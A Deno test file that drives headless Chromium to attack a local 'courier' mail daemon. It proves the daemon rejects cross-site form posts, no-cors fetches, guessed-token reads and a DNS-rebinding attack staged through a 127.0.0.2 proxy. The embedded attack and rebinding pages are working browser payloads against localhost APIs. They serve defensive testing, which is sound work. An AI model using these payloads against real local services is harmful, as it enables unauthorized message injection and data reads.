/**
 * A real browser attacks a real daemon. Headless Chromium opens a page from
 * another local origin that does what any web site the user visits could
 * do: HTML forms (`text/plain` bodies shaped as JSON, and url-encoded) and
 * `no-cors` fetches posted to inbound and outbound, and fetches that try to
 * read the mailbox, at 127.0.0.1, localhost and localhost. . In a frame it
 * opens a DNS-rebinding page: `rebind.test` is served by the attacker (a
 * listener on 127.0.0.2 at the daemon's port) and then, like a rebound DNS
 * name, reaches the daemon itself, so the browser treats the daemon as the
 * page's own origin and lets it read everything the daemon answers.
 *
 * Nothing may reach the mailbox or the outbound receiver, and nothing may
 * be read. A control server that welcomes everything receives the same
 * attacks, proving the browser really sent them.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { authedFetch, json, withHome } from "./helpers/courier.ts";
import { leaseTestPort } from "./helpers/ports.ts";

async function findChromium(): Promise<string | null> {
  for (const name of ["chromium", "chromium-browser", "google-chrome"]) {
    const found = await new Deno.Command("sh", {
      args: ["-c", `command -v ${name}`],
      stdout: "piped",
      stderr: "null",
    }).output().catch(() => null);
    if (found?.success) return new TextDecoder().decode(found.stdout).trim();
  }
  return null;
}

const chromium = await findChromium();
const canBind127002 = (() => {
  try {
    Deno.listen({ hostname: "127.0.0.2", port: 0 }).close();
    return true;
  } catch {
    return false;
  }
})();
const skipReason = !chromium
  ? "no chromium on PATH (.ci/run installs Debian's chromium)"
  : !canBind127002
  ? "cannot listen on 127.0.0.2 (the rebinding page needs a second loopback address)"
  : null;
if (skipReason) console.log(`skipping the browser attack test: ${skipReason}`);

/**
 * PIDs of the browser's processes: every Chromium process (renderer, GPU,
 * network service…) carries the test's own `--user-data-dir`.
 */
function profileUsers(profile: string): number[] {
  const pids: number[] = [];
  for (const entry of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    try {
      const cmdline = Deno.readTextFileSync(`/proc/${entry.name}/cmdline`);
      if (cmdline.includes(`--user-data-dir=${profile}\0`)) pids.push(Number(entry.name));
    } catch {
      // gone meanwhile
    }
  }
  return pids;
}

/**
 * Stops the browser this test started and waits for all of its processes
 * (they write to the profile while they shut down); any still there after
 * 10 s are killed. Then the profile can be removed.
 */
async function stopBrowser(child: Deno.ChildProcess, profile: string): Promise<void> {
  try {
    child.kill("SIGTERM");
  } catch {
    // already exited
  }
  await child.status;
  const deadline = Date.now() + 10_000;
  while (profileUsers(profile).length > 0 && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  for (const pid of profileUsers(profile)) {
    try {
      Deno.kill(pid, "SIGKILL"); // a process of the browser this test started
    } catch {
      // gone meanwhile
    }
  }
}

/**
 * Removes the browser's profile. A browser process killed a moment ago may
 * still be writing its last files there: a removal that finds the folder
 * not empty is tried again, for up to 5 s.
 */
async function removeProfile(profile: string): Promise<void> {
  for (let attempt = 1;; attempt++) {
    try {
      return await Deno.remove(profile, { recursive: true });
    } catch (error) {
      if (error instanceof Deno.errors.NotFound) return;
      if (attempt >= 50 || !/not empty/i.test(String(error))) throw error;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }
}

/** The attacker's page: every attack, results POSTed back to the attacker's own server. */
function attackPage(daemonPort: number, controlPort: number): string {
  return `<!doctype html><meta charset="utf-8"><title>attack</title><body><script>
const targets = {
  ip: "http://127.0.0.1:${daemonPort}",
  localhost: "http://localhost:${daemonPort}",
  "localhost-dot": "http://localhost.:${daemonPort}",
  control: "http://127.0.0.1:${controlPort}",
};
const inbound = (text) => JSON.stringify({ session_id: "attack", sender: { id: "evil" }, text });
const outbound = (text) => JSON.stringify({ to: "victim", text });
const results = {};
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = "error: " + e.name; }
}
function submit(action, enctype, name, value) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random().toString(36).slice(2);
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = action;
    form.enctype = enctype;
    form.target = frame.name;
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = name;
    input.value = value;
    form.appendChild(input);
    document.body.appendChild(form);
    const timer = setTimeout(() => resolve("timeout"), 10000);
    frame.onload = () => { clearTimeout(timer); resolve("submitted"); };
    form.submit();
  });
}
// A text/plain form sends "name=value": split a JSON document around an "=".
const formJson = (json) => [json.slice(0, -1) + ',"pad":"', '"}'];
async function read(url, init) {
  const response = await fetch(url, init);
  return "read " + response.status + " " + (await response.text()).slice(0, 300);
}
(async () => {
  for (const [tag, base] of Object.entries(targets)) {
    await attempt("nocors-inbound-" + tag, async () => (await fetch(base + "/api/v1/inbound/lark", {
      method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" },
      body: inbound("NOCORS-INBOUND-" + tag),
    })).type);
    await attempt("nocors-outbound-" + tag, async () => (await fetch(
      base + "/api/v1/outbound/lark",
      { method: "POST", mode: "no-cors", body: outbound("NOCORS-OUTBOUND-" + tag) },
    )).type);
    await attempt("form-inbound-" + tag, () => submit(base + "/api/v1/inbound/lark", "text/plain",
      ...formJson(inbound("FORM-INBOUND-" + tag))));
    await attempt("form-outbound-" + tag, () => submit(base + "/api/v1/outbound/lark", "text/plain",
      ...formJson(outbound("FORM-OUTBOUND-" + tag))));
    await attempt("form-urlencoded-" + tag, () => submit(base + "/api/v1/inbound/lark",
      "application/x-www-form-urlencoded", "text", "FORM-URLENCODED-" + tag));
    await attempt("read-" + tag, () => read(base + "/api/v1/messages"));
    await attempt("read-health-" + tag, () => read(base + "/health"));
    await attempt("read-guess-" + tag, () => read(base + "/api/v1/messages", {
      headers: { authorization: "Bearer guessed-token-guessed-token-guessed" },
    }));
    await attempt("cors-json-" + tag, () => read(base + "/api/v1/inbound/lark", {
      method: "POST", headers: { "content-type": "application/json" },
      body: inbound("CORS-JSON-" + tag),
    }));
  }
  const frame = document.createElement("iframe");
  frame.src = "http://rebind.test:${daemonPort}/rebind.html";
  document.body.appendChild(frame);
  await fetch("/report?from=attack", {
    method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(results),
  });
})();
</script>`;
}

/** The rebinding page: same origin as the daemon once `rebind.test` points at it. */
function rebindPage(attackerPort: number): string {
  return `<!doctype html><meta charset="utf-8"><title>rebind</title><script>
const results = {};
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = "error: " + e.name; }
}
async function read(url, init) {
  const response = await fetch(url, init);
  return "read " + response.status + " " + (await response.text()).slice(0, 300);
}
const json = { "content-type": "application/json" };
(async () => {
  await attempt("rebind-read", () => read("/api/v1/messages"));
  await attempt("rebind-health", () => read("/health"));
  await attempt("rebind-guess", () => read("/api/v1/messages", {
    headers: { authorization: "Bearer guessed-token-guessed-token-guessed" },
  }));
  await attempt("rebind-inbound", () => read("/api/v1/inbound/lark", {
    method: "POST", headers: json,
    body: JSON.stringify({ session_id: "attack", sender: { id: "evil" }, text: "REBIND-INBOUND" }),
  }));
  await attempt("rebind-outbound", () => read("/api/v1/outbound/lark", {
    method: "POST", headers: json, body: JSON.stringify({ to: "victim", text: "REBIND-OUTBOUND" }),
  }));
  await fetch("http://127.0.0.1:${attackerPort}/report?from=rebind", {
    method: "POST", mode: "no-cors", body: JSON.stringify(results),
  });
})();
</script>`;
}

/**
 * The attacker's server for `rebind.test` at the daemon's port on 127.0.0.2:
 * it serves the rebinding page, then passes every other connection to the
 * daemon untouched, as a DNS name rebound to 127.0.0.1 would.
 */
function rebindServer(port: number, page: string): { close(): Promise<void> } {
  const listener = Deno.listen({ hostname: "127.0.0.2", port });
  const conns = new Set<Deno.Conn>();
  const pipes: Promise<unknown>[] = [];
  const encoder = new TextEncoder();
  const serve = async (conn: Deno.Conn) => {
    const buffer = new Uint8Array(65536);
    const n = await conn.read(buffer).catch(() => null);
    if (n === null) return;
    const head = new TextDecoder().decode(buffer.subarray(0, n));
    if (head.startsWith("GET /rebind.html ")) {
      const body = encoder.encode(page);
      await conn.write(encoder.encode(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\n" +
          `content-length: ${body.length}\r\nconnection: close\r\n\r\n`,
      ));
      await conn.write(body);
      return;
    }
    const upstream = await Deno.connect({ hostname: "127.0.0.1", port });
    conns.add(upstream);
    await upstream.write(buffer.subarray(0, n));
    await Promise.all([
      conn.readable.pipeTo(upstream.writable).catch(() => {}),
      upstream.readable.pipeTo(conn.writable).catch(() => {}),
    ]);
  };
  const accepting = (async () => {
    for await (const conn of listener) {
      conns.add(conn);
      pipes.push(
        serve(conn).catch(() => {}).finally(() => {
          for (const c of [conn]) {
            try {
              c.close();
            } catch {
              // closed by its pipe
            }
          }
        }),
      );
    }
  })().catch(() => {});
  return {
    async close() {
      listener.close();
      for (const conn of conns) {
        try {
          conn.close();
        } catch {
          // already closed
        }
      }
      await accepting;
      await Promise.all(pipes);
    },
  };
}

Deno.test({
  name: "a real browser: no web page can post to courier or read it, DNS rebinding included",
  ignore: skipReason !== null,
}, async () => {
  const outboundCalls: string[] = [];
  const receiver = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (r) => {
    outboundCalls.push(await r.text());
    return new Response("ok");
  });
  const controlBodies: string[] = [];
  const control = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (r) => {
    const cors = {
      "access-control-allow-origin": "*",
      "access-control-allow-headers": "authorization, content-type",
    };
    if (r.method === "OPTIONS") return new Response(null, { status: 204, headers: cors });
    if (r.method === "POST") controlBodies.push(await r.text());
    return new Response("control-answer", { headers: cors });
  });
  const reports = new Map<string, Record<string, string>>();
  let reported: () => void = () => {};
  const bothReported = new Promise<void>((resolve) => (reported = resolve));
  let page = "";
  const attacker = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (r) => {
    const url = new URL(r.url);
    if (url.pathname === "/attack.html") {
      return new Response(page, { headers: { "content-type": "text/html; charset=utf-8" } });
    }
    if (url.pathname === "/report") {
      reports.set(url.searchParams.get("from")!, JSON.parse(await r.text()));
      if (reports.size === 2) reported();
      return new Response("thanks");
    }
    return new Response("not found", { status: 404 });
  });
  const profile = await Deno.makeTempDir({ prefix: "courier-chromium-" });
  let rebind: { close(): Promise<void> } | null = null;
  let browser: Deno.ChildProcess | null = null;
  try {
    await withHome(async (h) => {
      await Deno.mkdir(h.home, { recursive: true });
      await Deno.writeTextFile(
        join(h.home, "config.json"),
        JSON.stringify({ outbound: { lark: { url: `http://127.0.0.1:${receiver.addr.port}/` } } }),
        { mode: 0o600 },
      );
      const port = await leaseTestPort();
      const started = await h.run(["start", "--port", String(port), "--debounce-window", "50"]);
      assert.equal(started.code, 0, started.stderr);
      page = attackPage(port, control.addr.port);
      rebind = rebindServer(port, rebindPage(attacker.addr.port));

      browser = new Deno.Command(chromium!, {
        args: [
          "--headless",
          "--no-sandbox",
          "--disable-gpu",
          "--disable-quic",
          "--no-first-run",
          "--disable-background-networking",
          "--disable-component-update",
          "--disable-sync",
          "--no-proxy-server",
          "--host-resolver-rules=MAP rebind.test 127.0.0.2",
          `--user-data-dir=${profile}`,
          `http://127.0.0.1:${attacker.addr.port}/attack.html`,
        ],
        stdin: "null",
        stdout: "null",
        stderr: "null",
      }).spawn();
      let timer: ReturnType<typeof setTimeout> | undefined;
      const timeout = new Promise<"timeout">((resolve) => {
        timer = setTimeout(() => resolve("timeout"), 90_000);
      });
      const outcome = await Promise.race([bothReported, timeout]);
      clearTimeout(timer);
      assert.notEqual(outcome, "timeout", `reports received: ${[...reports.keys()]}`);

      const attack = reports.get("attack")!;
      const rebound = reports.get("rebind")!;
      // The control proves each kind of attack was really sent and readable where allowed.
      for (
        const marker of [
          "NOCORS-INBOUND-control",
          "NOCORS-OUTBOUND-control",
          "FORM-INBOUND-control",
          "FORM-OUTBOUND-control",
          "FORM-URLENCODED-control",
          "CORS-JSON-control",
        ]
      ) {
        assert.ok(controlBodies.some((b) => b.includes(marker)), `control got no ${marker}`);
      }
      assert.match(attack["read-control"], /^read 200 control-answer/);
      assert.match(attack["read-guess-control"], /^read 200 control-answer/);
      const formBody = controlBodies.find((b) => b.includes("FORM-INBOUND-control"))!;
      assert.equal(JSON.parse(formBody).text, "FORM-INBOUND-control", "the form body is JSON");

      // Against courier: nothing read, from any name.
      for (const tag of ["ip", "localhost", "localhost-dot"]) {
        for (const what of ["read", "read-health", "read-guess", "cors-json"]) {
          assert.match(attack[`${what}-${tag}`], /^error: TypeError/, `${what}-${tag}`);
        }
      }
      // The rebound page is same-origin with the daemon: it can read answers, and all are 421.
      for (const [name, result] of Object.entries(rebound)) {
        assert.match(result, /^read 421 .*not a name this courier answers to/, name);
      }
      assert.equal(Object.keys(rebound).length, 5);

      // And nothing reached the mailbox or the outbound receiver.
      const metrics = (await (await authedFetch(h.home, `http://127.0.0.1:${port}/health`)).json())
        .metrics;
      assert.equal(metrics.received, 0, JSON.stringify(metrics));
      assert.equal(metrics.queued, 0);
      const listed = json<{ count: number }>(await h.run(["mail", "list", "--json"]));
      assert.equal(listed.count, 0);
      assert.deepEqual(outboundCalls, []);
      assert.equal((await h.run(["stop"])).code, 0);
    });
  } finally {
    if (browser) await stopBrowser(browser, profile);
    await (rebind as { close(): Promise<void> } | null)?.close();
    await attacker.shutdown();
    await control.shutdown();
    await receiver.shutdown();
    await removeProfile(profile);
  }
});
